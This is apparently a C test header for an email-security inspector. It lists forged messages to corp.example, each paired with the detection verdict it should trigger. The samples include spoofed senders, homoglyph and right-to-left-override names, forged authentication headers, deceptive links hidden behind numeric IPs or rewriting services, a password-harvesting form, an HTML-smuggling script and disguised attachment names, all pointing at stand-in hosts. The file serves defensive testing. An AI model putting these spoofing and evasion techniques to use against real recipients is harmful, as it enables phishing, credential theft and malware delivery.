// Mails that are forged, each in its own way. The receiver is corp.example, its server
// mx.corp.example.
#pragma once
#include "case.h"

// clang-format off
#define ENTRY(host, ip) "Received: from " host " (" host " [" ip "]) by mx.corp.example (Postfix) with ESMTPS id 4F; Mon, 11 May 2026 03:10:02 +0900\r\n"
#define RESULTS(what)   "Authentication-Results: mx.corp.example; " what "\r\n"
#define REST            "To: tanaka@corp.example\r\nSubject: Minutes\r\nDate: Mon, 11 May 2026 03:09:40 +0900\r\n" \
                        "Message-ID: <1@mail.example>\r\nMIME-Version: 1.0\r\n"
#define TEXT            "Content-Type: text/plain; charset=utf-8\r\n\r\nHello\r\n"
#define HTML(body)      "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>" body "</body></html>\r\n"
#define EVIL            ENTRY("mail.evil.example", "203.0.113.9")
#define PASSES          "spf=pass smtp.mailfrom=evil.example; dkim=pass header.d=evil.example; dmarc=pass header.from=evil.example"
#define ATTACHED(type, how, content) "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b\r\n" \
                        "Content-Type: " type "\r\nContent-Disposition: attachment; " how "\r\n\r\n" content "\r\n--b--\r\n"
#define S(kind) KS_INSPECT_##kind

static const inspect_case forged_mails[] = {
    { "the sender of a domain whose DMARC fails", S(DMARC_FAIL), .text = EVIL
      RESULTS("spf=pass smtp.mailfrom=evil.example; dkim=none; dmarc=fail header.from=partner.example")
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "the receiver's own domain, from outside, with nothing that vouches for it", S(OWN_UNPROVED), .text = EVIL
      RESULTS("spf=softfail smtp.mailfrom=corp.example; dkim=none; dmarc=none header.from=corp.example")
      "From: President <president@corp.example>\r\n" REST TEXT },
    { "the own domain, from a host that nobody's results speak of", S(OWN_UNPROVED), .text = EVIL
      "From: President <president@corp.example>\r\n" REST TEXT },
    { "SPF fails and nothing else vouches", S(SPF_FAIL), .text = EVIL
      RESULTS("spf=fail smtp.mailfrom=partner.example; dkim=none; dmarc=none header.from=partner.example")
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "SPF fails, and the attacker's own signature holds", S(SPF_FAIL), .text = EVIL
      RESULTS("dkim=pass header.d=evil.example; spf=fail smtp.mailfrom=x@partner.example")
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "the name shows another address than the mail's", S(NAME_HOLDS_ADDRESS), .text = EVIL RESULTS(PASSES)
      "From: \"president@corp.example\" <x@evil.example>\r\n" REST TEXT },
    { "the name shows an address in an encoded word", S(NAME_HOLDS_ADDRESS), .text = EVIL RESULTS(PASSES)
      "From: =?UTF-8?B?56S+6ZW3IDxwcmVzaWRlbnRAY29ycC5leGFtcGxlPg==?= <x@evil.example>\r\n" REST TEXT },
    { "the name shows an address with a full-width @", S(NAME_HOLDS_ADDRESS), .text = EVIL RESULTS(PASSES)
      "From: \"president\xef\xbc\xa0" "corp.example\" <x@evil.example>\r\n" REST TEXT },
    { "the name shows the receiver's domain", S(NAME_HOLDS_DOMAIN), .text = EVIL RESULTS(PASSES)
      "From: \"corp.example support\" <x@evil.example>\r\n" REST TEXT },
    { "a name with the direction turned", S(NAME_TURNED), .text = EVIL RESULTS(PASSES)
      "From: \"\xe2\x80\xae" "tnediserP\" <x@evil.example>\r\n" REST TEXT },
    { "a name with invisible characters between its letters", S(NAME_HIDDEN), .text = EVIL RESULTS(PASSES)
      "From: \"Pay\xe2\x80\x8bPal\" <x@evil.example>\r\n" REST TEXT },
    { "a name with a Cyrillic letter among Latin ones", S(NAME_MIXED), .text = EVIL RESULTS(PASSES)
      "From: \"Micros\xd0\xbe" "ft\" <x@evil.example>\r\n" REST TEXT },
    { "two From fields", S(FROM_TWICE), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\nFrom: president@corp.example\r\n" REST TEXT },
    { "two senders in one From", S(FROM_MANY), .text = EVIL RESULTS(PASSES)
      "From: president@corp.example, x@evil.example\r\n" REST TEXT },
    { "no From at all", S(FROM_MISSING), .text = EVIL RESULTS("spf=none") REST TEXT },
    { "a digit for a letter of the own domain", S(DOMAIN_LOOKS_LIKE), .text = EVIL RESULTS(PASSES)
      "From: President <president@c0rp.example>\r\n" REST TEXT },
    { "a Cyrillic letter in the own domain's name", S(DOMAIN_LOOKS_LIKE), .text = EVIL RESULTS(PASSES)
      "From: President <president@xn--crp-sed.example>\r\n" REST TEXT },
    { "a domain that mixes scripts", S(DOMAIN_MIXED), .text = EVIL RESULTS(PASSES)
      "From: Shop <shop@xn--pypal-4ve.com>\r\n" REST TEXT },
    { "a domain all of Cyrillic letters that look Latin", S(DOMAIN_DISGUISED), .text = EVIL RESULTS(PASSES)
      "From: Shop <shop@xn--80ak6aa92e.com>\r\n" REST TEXT },
    { "the own domain in front of another one", S(DOMAIN_INSIDE), .text = EVIL RESULTS(PASSES)
      "From: President <president@corp.example.evil.example>\r\n" REST TEXT },
    { "answers go to a look-alike of the own domain", S(DOMAIN_LOOKS_LIKE), .text = EVIL
      RESULTS("spf=none; dkim=none; dmarc=none") "From: Suzuki <suzuki@partner.example>\r\nReply-To: president@c0rp.example\r\n" REST TEXT },
    { "answers go to the sender and to a look-alike of the own domain", S(DOMAIN_LOOKS_LIKE), .text = EVIL
      RESULTS("spf=none; dkim=none; dmarc=none") "From: Suzuki <suzuki@partner.example>\r\nReply-To: suzuki@partner.example, x@c0rp.example\r\n" REST TEXT },
    { "a second Reply-To leads to a look-alike of the own domain", S(DOMAIN_LOOKS_LIKE), .text = EVIL
      RESULTS("spf=none; dkim=none; dmarc=none") "From: Suzuki <suzuki@partner.example>\r\nReply-To: suzuki@partner.example\r\nReply-To: x@c0rp.example\r\n" REST TEXT },
    { "answers go to a free mailbox, and nothing proves the sender", S(REPLY_FREE), .text = EVIL
      RESULTS("spf=fail smtp.mailfrom=partner.example; dmarc=fail header.from=partner.example")
      "From: Suzuki <suzuki@partner.example>\r\nReply-To: suzuki.partner@gmail.com\r\n" REST TEXT },
    { "results in the receiver's name came with the mail", S(AUTH_FORGED), .text = EVIL
      "Received: from x by mail.evil.example; Mon, 11 May 2026 03:09:50 +0900\r\n" RESULTS("dmarc=pass header.from=partner.example")
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "results in the receiver's name came with the mail, and the true ones say fail", S(DMARC_FAIL), .text = EVIL
      RESULTS("spf=fail smtp.mailfrom=partner.example; dmarc=fail header.from=partner.example")
      "Received: from x by mail.evil.example; Mon, 11 May 2026 03:09:50 +0900\r\n" RESULTS("dmarc=pass header.from=partner.example")
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "a list that nobody authenticates is no excuse", S(DMARC_FAIL), .text = EVIL
      RESULTS("spf=fail smtp.mailfrom=lists.example; dkim=none; dmarc=fail header.from=partner.example")
      "List-Id: <dev.lists.example>\r\nFrom: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "the own domain by way of an attacker's own list", S(OWN_BY_LIST), .text = EVIL
      RESULTS("spf=pass smtp.mailfrom=evil.example; dkim=pass header.d=evil.example; dmarc=fail header.from=corp.example")
      "List-Id: <all.evil.example>\r\nFrom: President <president@corp.example>\r\n" REST TEXT },
    { "the own domain, sealed by an attacker's own chain", S(DMARC_FAIL_RELAYED), .text = EVIL
      RESULTS("spf=fail smtp.mailfrom=corp.example; arc=pass; dmarc=fail header.from=corp.example")
      "ARC-Seal: i=1; a=rsa-sha256; d=evil.example; s=a; b=x\r\nARC-Authentication-Results: i=1; evil.example; dmarc=pass header.from=corp.example\r\n"
      "From: President <president@corp.example>\r\n" REST TEXT },
    { "results are about another domain than the sender's", S(AUTH_OTHER), .text = EVIL RESULTS(PASSES)
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "Exchange Online's own results, without a name", S(DMARC_FAIL), .is_plain = true, .text =
      "Received: from mail.evil.example (203.0.113.9) by DB5EUR03FT.mail.protection.outlook.com (10.152.20.1) with Microsoft SMTP Server id 15.20; Mon, 11 May 2026 03:10:02 +0000\r\n"
      "Authentication-Results: spf=fail (sender IP is 203.0.113.9) smtp.mailfrom=partner.example; corp.example; dkim=none (message not signed) header.d=none;corp.example; dmarc=fail"
      " action=quarantine header.from=partner.example;compauth=fail reason=000\r\n"
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "Google's results, written below its Received", S(DMARC_FAIL), .is_plain = true, .text =
      "Delivered-To: tanaka@corp.example\r\nReceived: by 2002:a05:6a10:1234 with SMTP id a1; Mon, 11 May 2026 03:10:05 -0700\r\n"
      "Received: from mail.evil.example (mail.evil.example. [203.0.113.9]) by mx.google.com with ESMTP id x1; Mon, 11 May 2026 03:10:04 -0700\r\n"
      "Received-SPF: fail (google.com: domain of x does not designate 203.0.113.9) client-ip=203.0.113.9;\r\n"
      "Authentication-Results: mx.google.com; spf=fail smtp.mailfrom=partner.example; dmarc=fail (p=REJECT sp=REJECT dis=REJECT) header.from=partner.example\r\n"
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "the host called itself by a name of the receiver", S(ROUTE_OWN_HELO), .text =
      "Received: from mail.corp.example (unknown [203.0.113.9]) by mx.corp.example (Postfix) with ESMTP id 4F; Mon, 11 May 2026 03:10:02 +0900\r\n"
      RESULTS("spf=none; dkim=none; dmarc=none") "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "a hop of the receiver is made up below the true one", S(ROUTE_FALSE_OWN), .text = EVIL RESULTS("spf=none; dkim=none; dmarc=none")
      "Received: from pc1.corp.example ([198.51.100.1]) by mail.corp.example with ESMTP id 1; Mon, 11 May 2026 03:09:50 +0900\r\n"
      "From: Suzuki <suzuki@partner.example>\r\n" REST TEXT },
    { "a lone carriage return and a NUL in the header", S(HEADER_CONTROL), .text = EVIL
      "From: Suzuki\r <suzuki@partner.example>\r\n" REST TEXT },
    { "a link shows the own domain and leads elsewhere", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=\"https://login.evil.example/\">https://portal.corp.example/login</a>") },
    { "a link hides its host behind a user name", S(LINK_USER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href='https://portal.corp.example@203.0.113.9.evil.example/'>sign in</a>") },
    { "a link leads to a bare address", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=http://203.0.113.9/a>sign in</a>") },
    { "a link shows the own domain, its address in character references", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=\"&#104;ttp&#x73;&colon;&sol;&#47;login&period;evil.example/?a=1&amp;b\">https&#58;//portal.corp&#46;example/</a>") },
    { "a bare address behind a scheme that a line end divides", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=\"ht\r\n\ttps:&NewLine;//203.0.113.9/\">sign in</a>") },
    { "a link with backslashes for slashes", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href='https:\\\\evil.example\\x'>portal.corp.example</a>") },
    { "a link shows the own domain with characters of no width in it", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href='https://evil.example/'>&nbsp;portal.co\xe2\x80\x8brp.ex&shy;am&#8288;ple<!-- > --></a>") },
    { "a link behind a comment that ends at once", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<title><!--</title><!--><a href='https://evil.example/'>portal.corp.example</a><!-- -->") },
    { "the own domain is shown over a link rewritten by Safe Links", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      HTML("<a href='https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fa&amp;data=y'>https://portal.corp.example/</a>") },
    { "the same with Proofpoint's second form", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      HTML("<a href='https://urldefense.proofpoint.com/v2/url?u=https-3A__login-2Dcorp.evil.example_a-3Fb&amp;d=x'>portal.corp.example</a>") },
    { "the same with the third form, within Safe Links", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      HTML("<a href='https://jpn01.safelinks.protection.outlook.com/?data=y&amp;url=https%3A%2F%2Furldefense.com%2Fv3%2F__https%3A%2Fevil.example%2Fa*b__%3BIw%21%21x'>portal.corp.example</a>") },
    { "a domain that ends as that of a rewriting service", S(LINK_FALSE_OWN), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      HTML("<a href='https://evilurldefense.com/'>portal.corp.example</a>") },
    { "a bare address in a rewritten link", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      HTML("<a href='https://urldefense.com/v3/__http://203.0.113.9/a__;!!x'>sign in</a>") },
    { "a link leads to a bare address, written as one number", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=http://3232235777/>sign in</a>") },
    { "the same as a hexadecimal number", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=http://0xC0A80101/>sign in</a>") },
    { "the same as four hexadecimal numbers", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=http://0x08.0x08.0x08.0x08/>sign in</a>") },
    { "the same as octal numbers", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=http://0300.0250.01.01/>sign in</a>") },
    { "the same as two numbers", S(LINK_NUMBER), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href=http://8.8/>sign in</a>") },
    { "a picture lies on a file server", S(LINK_SHARE), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<img src=\"file://203.0.113.9/share/a.png\">") },
    { "a link starts a search of Windows", S(LINK_SCHEME), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<a href='search-ms:query=a&crumb=location:x'>invoice</a>") },
    { "a form in the mail asks for a password", S(FORM), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST HTML("<form action='https://evil.example/p'><input type=\"password\" name=p></form>") },
    { "text in UTF-7", S(CHARSET_UTF7), .text = EVIL RESULTS(PASSES)
      "From: x@evil.example\r\n" REST "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n" },
    { "an attachment with two names", S(ATTACHMENT_NAMES), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      ATTACHED("application/octet-stream; name=\"minutes.pdf\"", "filename=\"minutes.hta\"", "text") },
    { "an attachment whose name turns its order", S(NAME_OVERRIDE), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      ATTACHED("application/octet-stream", "filename*=utf-8''cod%E2%80%AEfdp.scr", "text") },
    { "an attachment whose name holds a path", S(NAME_PATH), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      ATTACHED("text/plain", "filename=\"..\\\\..\\\\Startup\\\\a.txt\"", "text") },
    { "a script attached", S(NAME_PROGRAM), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      ATTACHED("text/plain", "filename=\"invoice.js\"", "WScript.Echo(1)") },
    { "a page attached that builds a file", S(SMUGGLING), .text = EVIL RESULTS(PASSES) "From: x@evil.example\r\n" REST
      ATTACHED("text/html", "filename=\"invoice.html\"", "<html><script>var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');"
               "a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()</script></html>") },
    { "a forged mail inside of a forwarded one", S(FROM_TWICE), .text = ENTRY("mail.partner.example", "192.0.2.10")
      RESULTS("spf=pass smtp.mailfrom=partner.example; dmarc=pass header.from=partner.example") "From: s@partner.example\r\n" REST
      "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: x@evil.example\r\nFrom: y@corp.example\r\n"
      "Subject: inner\r\nDate: Mon, 11 May 2026 03:09:40 +0900\r\n\r\ninner\r\n--b--\r\n" },
};
// clang-format on
